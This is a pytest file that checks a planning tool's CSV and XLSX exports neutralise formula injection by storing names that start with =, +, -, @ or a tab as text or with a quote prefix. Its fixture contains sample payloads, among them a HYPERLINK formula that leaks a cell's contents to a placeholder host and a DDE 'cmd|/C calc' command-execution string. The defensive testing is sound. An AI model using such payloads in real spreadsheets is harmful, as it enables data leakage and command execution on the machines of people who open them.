"""Issue 9 #3: text starting with = + - @ (tab, CR) is written as text to XLSX and CSV exports, never a formula.

Before: a plan named `=HYPERLINK(...)` became a live formula cell in `plan export --format xlsx`
and was written raw to the CSV.
"""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from trekant import sheets
from trekant.cli.main import app
from unit.plan.builders import KOLDING, VEJLE, border_segment, frame, write_geojson

runner = CliRunner()
HOSTILE = {"T-EQ": '=HYPERLINK("http://example.invalid/?leak="&A1,"klik")', "T-AT": "@SUM(1+1)*cmd|' /C calc'!A0",
           "T-PLUS": "+45 7020 1200", "T-MINUS": "-2+3", "T-TAB": "\t=1+1"}


@pytest.fixture
def hostile_plan(plan_env, tmp_path):
    s = border_segment(KOLDING, VEJLE)
    features = [frame(planid, VEJLE, 11, s.rect(100 + 400 * i, 400 + 400 * i), plannavn=name)
                for i, (planid, name) in enumerate(HOSTILE.items())]
    result = runner.invoke(app, ["plan", "import", str(write_geojson(tmp_path / "hostile.geojson", features))])
    assert result.exit_code == 0, result.output
    return plan_env


def test_xlsx_export_writes_formula_like_names_as_text(hostile_plan, tmp_path):
    out = tmp_path / "plan.xlsx"
    assert runner.invoke(app, ["plan", "export", "--format", "xlsx", "--out", str(out)]).exit_code == 0
    sheet = openpyxl.load_workbook(out).worksheets[0]
    header = [c.value for c in sheet[1]]
    planid_col, name_col = header.index("planid"), header.index("plannavn")
    cells = {row[planid_col].value: row[name_col] for row in sheet.iter_rows(min_row=2)}
    for planid, name in HOSTILE.items():
        assert cells[planid].data_type == "s", planid
        assert cells[planid].value == name.strip()  # the text itself (the import trims blanks), unchanged


def test_csv_export_prefixes_formula_like_names(hostile_plan, tmp_path):
    out = tmp_path / "plan.csv"
    assert runner.invoke(app, ["plan", "export", "--format", "csv", "--out", str(out)]).exit_code == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = {r["planid"]: r for r in csv.DictReader(handle)}
    for planid, name in HOSTILE.items():
        assert rows[planid]["plannavn"] == "'" + name.strip()
    assert rows["T-EQ"]["area_ha"] == "9.0"  # numbers stay numbers


def test_safe_frame_leaves_numbers_alone():
    frame = pd.DataFrame({"name": ["=1+1", "ok", "-x"], "value": [-1.5, 2.0, -3.0]})
    out = sheets.safe_frame(frame)
    assert out["name"].tolist() == ["'=1+1", "ok", "'-x"] and out["value"].tolist() == [-1.5, 2.0, -3.0]


def test_no_export_writes_a_spreadsheet_past_sheets():
    """Every CSV/XLSX writer is trekant.sheets, so a new export cannot forget the rule above (parquet is
    no spreadsheet; the demo-data generator writes the package's own shipped file)."""
    import re
    from pathlib import Path

    src = Path(__file__).resolve().parents[3] / "src" / "trekant"
    allowed = {"sheets.py", "energy/data/make_demo_activity.py"}
    writer = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.(writer|DictWriter)\(|\bWorkbook\(|ExcelWriter\(|xlsxwriter")
    offenders = sorted(str(p.relative_to(src)) for p in src.rglob("*.py")
                       if writer.search(p.read_text(encoding="utf-8")) and str(p.relative_to(src)) not in allowed)
    assert offenders == []
    assert writer.search((src / "sheets.py").read_text(encoding="utf-8"))  # the pattern finds a real writer
